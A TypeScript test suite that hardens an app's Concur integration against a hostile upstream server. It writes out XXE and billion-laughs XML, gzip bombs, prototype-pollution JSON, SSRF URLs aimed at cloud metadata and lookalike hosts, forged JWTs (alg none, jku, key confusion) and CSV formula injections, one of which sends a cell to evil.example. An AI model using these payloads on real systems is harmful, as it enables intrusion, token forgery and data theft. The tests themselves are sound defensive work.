import { gzipSync } from 'node:zlib'
import { parse as parseCsv } from 'csv-parse/sync'
import { exportSPKI, generateKeyPair, importJWK, SignJWT } from 'jose'
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { people, sessions } from '#lib/db/schema.ts'
import { DANIEL, MIRA, PRIYA } from '../../sandbox/people.ts'
import { reportWith } from '../sandbox/report-client.ts'
import { startWitness } from '../support/listen.ts'
import { type Browser, consent, openDesk, type TestDesk } from '../support/test-desk.ts'
import { startHostileConcur } from './hostile-concur.ts'

let concur: Awaited<ReturnType<typeof startHostileConcur>>
let witness: Awaited<ReturnType<typeof startWitness>>
let desk: TestDesk
let mira: Browser
let daniel: Browser
let priya: Browser
const lines: string[] = []

beforeAll(async () => {
  ;[concur, witness] = [await startHostileConcur(), await startWitness()]
  desk = await openDesk({
    env: { CONCUR_API_URL: concur.url, CONCUR_ALLOWED_HOSTS: concur.url, LOG_LEVEL: 'trace' },
    logTo: { write: (line) => void lines.push(line) },
  })
  desk.app.rateLimit = { take: async () => {} }
  concur.stealFrom(desk.sandbox.url)
  desk.sandbox.store.tokens.changeRules({ geolocation: concur.url })
  ;[mira, daniel, priya] = [await desk.signIn(MIRA), await desk.signIn(DANIEL), await desk.signIn(PRIYA)]
})
afterAll(async () => {
  await desk.close()
  await concur.close()
  await witness.close()
})
beforeEach(() => concur.beHonest())

const LIST = /\/requestslist/
const root = (inside: string, before = '') =>
  `${before}<RequestsList xmlns="http://www.concursolutions.com/api/travelrequest/2012/06">${inside}</RequestsList>`
const laughs = Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
)

/** Answers to a list of requests; each would cost a naive parser its memory, its time or a file of ours. */
const bombs: [what: string, body: () => string | Uint8Array, headers?: Record<string, string>][] = [
  ['a billion laughs', () => root('&l9;', `<!DOCTYPE r [<!ENTITY l0 "ha">${laughs.join('')}]>`)],
  [
    'an entity of 100 KB 10,000 times',
    () => root('&a;'.repeat(10_000), `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(100_000)}">]>`),
  ],
  [
    'a file of ours as an entity',
    () => root('&f;', '<!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]>'),
  ],
  ['another host as an entity', () => root('&f;', `<!DOCTYPE r [<!ENTITY f SYSTEM "${witness.url}/x">]>`)],
  ['a document type on another host', () => root('', `<!DOCTYPE r SYSTEM "${witness.url}/x.dtd">`)],
  ['an entity of parameters', () => root('', `<!DOCTYPE r [<!ENTITY % p SYSTEM "${witness.url}/p"> %p;]>`)],
  ['a document type behind a comment', () => root('', '<!-- x --><!DOCTYPE r [<!ENTITY a "b">]>')],
  [
    'a document type in UTF-16',
    () => Buffer.from(`\ufeff${root('&a;', '<!DOCTYPE r [<!ENTITY a "b">]>')}`, 'utf16le'),
  ],
  ['100,000 elements inside each other', () => root(`${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`)],
  ['100,000 elements that never end', () => root('<a>'.repeat(100_000))],
  ['2 MB of comments that never end', () => `<!x>${'<!--'.repeat(500_000)}`],
  ['2 MB of CDATA that never ends', () => `<!x>${'<![CDATA['.repeat(200_000)}`],
  [
    '2 MB of an element’s name',
    () => root(`<${'a'.repeat(2_000_000)}/>`).replaceAll('RequestsList', 'Other'),
  ],
  ['an attribute that is there twice', () => root('<a b="1" b="2"/>')],
  ['an element named __proto__', () => root('<__proto__><polluted>1</polluted></__proto__>')],
  ['40 MB', () => new Uint8Array(40_000_000).fill(0x20)],
  [
    '60 KB that unpack to 60 MB',
    () => gzipSync(Buffer.alloc(60_000_000, ' ')),
    { 'content-encoding': 'gzip' },
  ],
  ['nothing that is packed, and says so', () => 'plain', { 'content-encoding': 'gzip' }],
  ['a page with a script', () => '<html><script>alert(1)</script></html>'],
  ['a NUL', () => root('<a>\0</a>')],
]

describe('An answer of Concur that is', () => {
  it.each(bombs)(
    '%s is told as unreadable, soon, and nobody else waits for it',
    {
      timeout: 60_000,
    },
    async (what, body, headers) => {
      concur.lie(LIST, { headers: { 'content-type': 'application/xml', ...headers }, body: body() })
      const started = performance.now()
      const asked = mira.get('/api/requests?status=TOAPPROVE')
      const meanwhile = daniel.get('/api/me').then(() => performance.now() - started)
      const answer = await asked
      const tookMs = performance.now() - started
      expect(answer.status, answer.text.slice(0, 200)).toBeGreaterThanOrEqual(502)
      // What cannot even be unpacked is a connection that broke.
      const code = what.startsWith('nothing that is packed') ? 'concur-unavailable' : 'concur-malformed'
      expect(answer.json.code).toBe(code)
      expect(answer.text).not.toMatch(/root:|alert|haha/)
      expect(tookMs).toBeLessThan(20_000)
      // Held up by the reading it would take as long.
      expect(await meanwhile).toBeLessThan(1_000 + tookMs / 2)
      expect(witness.heard).toEqual([])
      expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)
    },
  )

  it.each<[string, (truth: string) => string]>([
    [
      '10,000 attributes',
      (truth) =>
        truth.replace(
          /<(\w*:?RequestSummary)>/,
          `<$1 ${Array.from({ length: 10_000 }, (_, index) => `a${index}="1"`).join(' ')}>`,
        ),
    ],
    [
      'a style sheet and an inclusion from elsewhere',
      (truth) =>
        truth
          .replace(/^(<\?xml[^>]*>)?/, `$1<?xml-stylesheet href="${witness.url}/s"?>`)
          .replace(
            /<\/\w*:?RequestsList>/,
            `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${witness.url}/i"/>$&`,
          ),
    ],
    [
      'references to characters that XML forbids',
      (truth) => truth.replace(/<RequestName>/, '<RequestName>&#0;&#x1f;&#xD800;&#99999999999;'),
    ],
  ])('odd, with %s, is read as it stands, and nothing else is fetched', async (_, change) => {
    concur.lie(LIST, ({ text, type }) => ({ headers: { 'content-type': type }, body: change(text) }))
    const answer = await mira.get('/api/requests?status=TOAPPROVE')
    expect(answer.status).toBe(200)
    expect(answer.json.items.length).toBeGreaterThan(10)
    expect(witness.heard).toEqual([])
  })

  it.each<[string, string]>([
    ['lists 200,000 deep', `${'['.repeat(200_000)}${']'.repeat(200_000)}`],
    ['objects 200,000 deep', `${'{"a":'.repeat(200_000)}1${'}'.repeat(200_000)}`],
    ['a number of a million digits', '9'.repeat(1_000_000)],
    ['a prototype', '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'],
    ['half a text', '[{"exceptionCode":"'],
    ['a list with holes', '[,]'],
  ])('JSON with %s is told as unreadable', async (_, body) => {
    const { reportId } = await reportWith(desk.sandbox.url, 'header')
    concur.lie(/\/exceptions/, { headers: { 'content-type': 'application/json' }, body })
    const answer = await priya.get(`/api/reports/${reportId}/exceptions?as=system`)
    expect(answer).toMatchObject({ status: 502, json: { code: 'concur-malformed' } })
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)
  })

  it.each([
    '-5',
    '1e9',
    '99999999999999999999',
    'NaN',
    'Fri, 31 Dec 9999 23:59:59 GMT',
    'soon',
    `${'9'.repeat(4_000)}`,
  ])('busy until %s keeps a person waiting for no longer than a moment', async (retryAfter) => {
    concur.lie(LIST, { status: 429, headers: { 'retry-after': retryAfter }, body: '' })
    const started = performance.now()
    const answer = await mira.get('/api/requests?status=TOAPPROVE')
    expect(answer).toMatchObject({ status: 503, json: { code: 'concur-busy' } })
    expect(answer.json.retryAfter).toBeGreaterThan(0)
    expect(answer.json.retryAfter).toBeLessThanOrEqual(86_400)
    expect(performance.now() - started).toBeLessThan(8_000)
  })
})

/** Where a token would be sent to, if its answer were believed. */
const places = (): string[] => [
  witness.url,
  `${witness.url}/us2.api.concursolutions.com`,
  witness.url.replace('127.0.0.1', 'localhost'),
  witness.url.replace('127.0.0.1', '127.1'),
  witness.url.replace('127.0.0.1', '0x7f000001'),
  witness.url.replace('127.0.0.1', '[::ffff:127.0.0.1]'),
  witness.url.replace('http://', 'http://us2.api.concursolutions.com@'),
  concur.url.replace('http://', 'http://user:secret@'),
  `${concur.url}@${witness.url.slice(7)}`,
  concur.url.replace(/\d+$/, '1'),
  'http://us2.api.concursolutions.com',
  'https://us2.api.concursolutions.com:8443',
  'https://us2.api.concursolutions.com.evil.example',
  'https://us2.api.concursolutions.com.',
  'https://evil.example/us2.api.concursolutions.com',
  'https://evil.example#us2.api.concursolutions.com',
  'https://us2.api.concursolutions.com%2eevil.example',
  'https://us2.api.сoncursolutions.com',
  'https://us2.api.concursolutıons.com',
  'https://us2api.concursolutions.com',
  'https://concursolutions.com',
  'http://169.254.169.254/latest/meta-data',
  'file:///etc/passwd',
  'gopher://127.0.0.1:25/',
  '//evil.example',
  'us2.api.concursolutions.com',
  ' ',
]

describe('A token answer that sends us elsewhere', () => {
  it('is not believed at a sign-in: nobody is signed in, nobody is called', async () => {
    const before = (await desk.app.database.db.select().from(sessions)).length
    for (const geolocation of places()) {
      concur.beHonest()
      concur.lie(/\/oauth2\/v0\/token/, ({ text }) => ({
        body: JSON.stringify({ ...JSON.parse(text), geolocation }),
      }))
      await expect(desk.signIn(DANIEL), geolocation).rejects.toThrow(/refused|geolocation/i)
    }
    expect(witness.heard).toEqual([])
    expect(await desk.app.database.db.select().from(sessions)).toHaveLength(before)
  })

  it('is not believed when it says that the person lives elsewhere', async () => {
    for (const geolocation of places()) {
      concur.beHonest()
      concur.lie(/\/oauth2\/v0\/token/, {
        status: 400,
        body: JSON.stringify({
          code: 16,
          error: 'invalid_grant',
          error_description: 'user lives elsewhere',
          geolocation,
        }),
      })
      await expect(desk.signIn(DANIEL), geolocation).rejects.toThrow()
    }
    expect(witness.heard).toEqual([])
  })

  it('is not believed at a refresh: the person reads that nothing was sent there', async () => {
    const browser = await desk.signIn(PRIYA)
    desk.sandbox.store.tokens.expireAccess()
    concur.lie(/\/oauth2\/v0\/token/, ({ text }) => ({
      body: JSON.stringify({ ...JSON.parse(text), geolocation: witness.url }),
    }))
    const answer = await browser.get('/api/requests')
    expect(answer).toMatchObject({ status: 502, json: { code: 'concur-unavailable' } })
    expect(answer.text).toContain('does not trust')
    expect(answer.text).not.toContain(witness.url)
    expect(witness.heard).toEqual([])
    concur.beHonest()
    ;[mira, daniel, priya] = [await desk.signIn(MIRA), await desk.signIn(DANIEL), await desk.signIn(PRIYA)]
  })
})

it('Links in what Concur says are read for their ids, and their hosts are never called', async () => {
  concur.lie(/^\/(?!oauth2|profile)/, ({ text, type }) => ({
    headers: { 'content-type': type },
    body: text.replaceAll(
      /https?:\/{1,2}(?!www\.w3|schemas)[\w.:-]+(?=\/(?!api\/\w+\/20\d\d))/g,
      witness.url,
    ),
  }))
  const { json: waiting } = await mira.get('/api/requests?status=TOAPPROVE')
  const [request] = waiting.items
  expect((await mira.get(`/api/requests/${encodeURIComponent(request.requestKey)}`)).status).toBe(200)
  const approved = await mira.send(
    'POST',
    `/api/requests/${encodeURIComponent(request.requestKey)}/approve`,
    {},
  )
  expect(approved.json.outcome).toBe('done')
  const { json: lists } = await daniel.get('/api/lists')
  for (const { id, levels } of lists.items) {
    const items = `/api/lists/${encodeURIComponent(id)}/items`
    const { json } = await daniel.get(items)
    const [parent] = json.items
    if (levels > 1)
      expect((await daniel.get(`${items}?parentCode=${encodeURIComponent(parent.codes[0])}`)).status).toBe(
        200,
      )
  }
  const started = await daniel.send('POST', `/api/lists/${encodeURIComponent(lists.items[0].id)}/batches`, {
    operation: 'create',
    items: [
      { name: 'Linked', codes: Array.from({ length: lists.items[0].levels }, (_, level) => `LINK${level}`) },
    ],
  })
  expect(started.status).toBe(202)
  await vi.waitUntil(async () => (await daniel.get(`/api/jobs/${started.json.jobId}`)).json.endedAt, {
    timeout: 10_000,
  })
  const { reportId } = await reportWith(desk.sandbox.url, 'expense')
  expect((await priya.get(`/api/reports/${reportId}?as=system`)).status).toBe(200)
  expect((await priya.get(`/api/reports/${reportId}/expenses?as=system`)).status).toBe(200)
  expect(witness.heard).toEqual([])
})

describe('An id_token', () => {
  const claims = () => ({
    principal: { id: MIRA.id, type: 'user' } as const,
    clientId: 'clearance-sandbox',
    issuer: concur.url,
    nonce: 'ours',
    issuedAt: Date.now(),
    seconds: 3600,
  })
  const unsigned = (header: object, payload: object) =>
    [header, payload].map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')).join('.')
  const payload = () => ({
    sub: MIRA.id,
    iss: concur.url,
    aud: 'clearance-sandbox',
    iat: now(),
    exp: now() + 3600,
    nonce: 'ours',
  })
  const now = () => Math.floor(Date.now() / 1000)
  const sign = (more: object = {}) => desk.sandbox.store.signer.sign({ ...claims(), ...more })

  /** Signed by a key of the attacker's own, with a header that offers it. */
  async function byAnotherKey(header: (keys: CryptoKeyPair) => object | Promise<object>): Promise<string> {
    const keys = await generateKeyPair('RS256', { extractable: true })
    const named = await header(keys)
    return new SignJWT(payload())
      .setProtectedHeader({ alg: 'RS256', kid: 'sandbox-1', ...named })
      .sign(keys.privateKey)
  }
  async function byPublicKeyAsSecret(): Promise<string> {
    const [jwk] = desk.sandbox.store.signer.jwks.keys
    const key = await importJWK({ ...jwk, ext: true }, 'RS256', { extractable: true })
    if (key instanceof Uint8Array) throw new Error('That is no public key.')
    const pem = new TextEncoder().encode(await exportSPKI(key))
    return new SignJWT(payload()).setProtectedHeader({ alg: 'HS256', kid: 'sandbox-1' }).sign(pem)
  }

  const complete = async () => {
    const code = await consent(desk.sandbox.url, MIRA)
    return desk.app.completeSignIn(code, 'http://localhost:3000/api/auth/callback/concur', 'ours')
  }
  const bring = (idToken: string | undefined) =>
    concur.lie(/\/oauth2\/v0\/token/, ({ text }) => ({
      body: JSON.stringify({ ...JSON.parse(text), id_token: idToken }),
    }))

  it('of this very sign-in signs the person in', async () => {
    bring(await sign())
    expect(await complete()).toMatchObject({ login: MIRA.login })
  })

  it.each<[string, () => Promise<string | undefined> | string | undefined]>([
    ['by another key', () => byAnotherKey(() => ({}))],
    ['by a key that its header points to', () => byAnotherKey(() => ({ jku: `${witness.url}/jwks` }))],
    [
      'by a key that its header brings',
      () => byAnotherKey(async ({ publicKey }) => ({ jwk: await crypto.subtle.exportKey('jwk', publicKey) })),
    ],
    ['by a certificate that its header points to', () => byAnotherKey(() => ({ x5u: `${witness.url}/x5u` }))],
    ['by a key named like a file', () => byAnotherKey(() => ({ kid: '../../../../dev/null' }))],
    ['by nobody', () => `${unsigned({ alg: 'none' }, payload())}.`],
    ['by nobody, in other letters', () => `${unsigned({ alg: 'nOnE' }, payload())}.`],
    ['by nobody, though it says RS256', () => `${unsigned({ alg: 'RS256', kid: 'sandbox-1' }, payload())}.`],
    [
      'with the app’s own secret',
      () =>
        new SignJWT(payload())
          .setProtectedHeader({ alg: 'HS256' })
          .sign(new TextEncoder().encode('clearance-sandbox-secret')),
    ],
    ['with the public key as a secret', byPublicKeyAsSecret],
    ['for another app', () => sign({ clientId: 'another-app' })],
    ['for another sign-in', () => sign({ nonce: 'theirs' })],
    ['by an issuer off the list', () => sign({ issuer: witness.url })],
    ['by an issuer with a user name', () => sign({ issuer: concur.url.replace('//', '//a@') })],
    ['yesterday', () => sign({ issuedAt: Date.now() - 86_400_000 })],
    ['tomorrow', () => sign({ issuedAt: Date.now() + 86_400_000 })],
    ['for nobody', () => sign({ principal: { id: '', type: 'user' } })],
    [
      'changed afterwards',
      async () => (await sign()).replace(/\.[\w-]+\./, (part) => `${part.slice(0, -5)}AAAA.`),
    ],
    ['in five parts', () => 'a.b.c.d.e'],
    ['not at all', () => undefined],
  ])('signed %s signs nobody in', async (_, make) => {
    bring(await make())
    const before = await desk.app.database.db.select().from(people)
    await expect(complete()).rejects.toThrow()
    expect(await desk.app.database.db.select().from(people)).toEqual(before)
    expect(witness.heard).toEqual([])
  })

  it('of one person and a profile of another sign nobody in', async () => {
    concur.lie(/\/profile\//, ({ text }) => ({
      headers: { 'content-type': 'application/json' },
      body: text.replaceAll(MIRA.id, PRIYA.id),
    }))
    await expect(complete()).rejects.toThrow(/another person/)
  })
})

describe('Exports', () => {
  const FORMULAS = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '=cmd|"/C calc"!A0',
    '-cmd',
    '+cmd',
    '＝1+1',
    '＋1',
    '－1+1',
    '＠x',
    '=HYPERLINK("https://evil.example?"&A1)',
    '"=1+1',
    "'=1+1",
    '=1;=2',
    '1,=2',
  ]
  /** Signs, and their full-width twins, with which a spreadsheet begins to reckon. */
  const FORMULA = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/
  const NUMBERS = ['-12.50', '-3', '+7', '0', '-0,5']

  it('of failed rows hold no cell that runs, and every number stays one', async () => {
    const { json: lists } = await daniel.get('/api/lists')
    const vendors = lists.items.find(({ name }: { name: string }) => name === 'Vendors')
    const { json: started } = await daniel.send(
      'POST',
      `/api/lists/${encodeURIComponent(vendors.id)}/batches`,
      {
        operation: 'create',
        items: [...FORMULAS, ...NUMBERS].map((name) => ({ name, codes: ['a-b'] })),
      },
    )
    await vi.waitUntil(async () => (await daniel.get(`/api/jobs/${started.jobId}`)).json.endedAt, {
      timeout: 10_000,
    })
    const { text } = await daniel.get(`/api/jobs/${started.jobId}/failed.csv`)
    const rows = parseCsv(text, { bom: true, relax_column_count: false })
    expect(rows).toHaveLength(FORMULAS.length + NUMBERS.length + 1)
    for (const cells of rows)
      for (const cell of cells) if (!NUMBERS.includes(cell)) expect(cell).not.toMatch(FORMULA)
    const names = rows.flat()
    for (const number of NUMBERS) expect(names).toContain(number)
  })

  it('of the audit log hold no cell that runs', async () => {
    for (const name of FORMULAS) await mira.send('POST', '/api/requests', { name })
    const { text } = await mira.get('/api/audit.csv?verb=create')
    const cells = parseCsv(text, { bom: true }).flat()
    expect(cells.filter((cell) => cell.startsWith("'")).length).toBeGreaterThanOrEqual(10)
    for (const cell of cells) expect(cell).not.toMatch(FORMULA)
  })
})

it('The log of all this is one line of JSON an event, without a token, a code or a secret', () => {
  expect(lines.length).toBeGreaterThan(100)
  for (const line of lines) {
    expect(line.indexOf('\n')).toBe(line.length - 1)
    expect(() => JSON.parse(line)).not.toThrow()
  }
  const log = lines.join('')
  expect(log).not.toMatch(
    /Bearer|\bat_[\w-]{20}|\beyJ[\w-]{10,}\.|clearance-sandbox-secret|root:|client_secret/,
  )
  expect(log).not.toContain('secret@')
  for (const browser of [mira, daniel, priya]) expect(log).not.toContain(browser.cookie.split('=')[1])
})
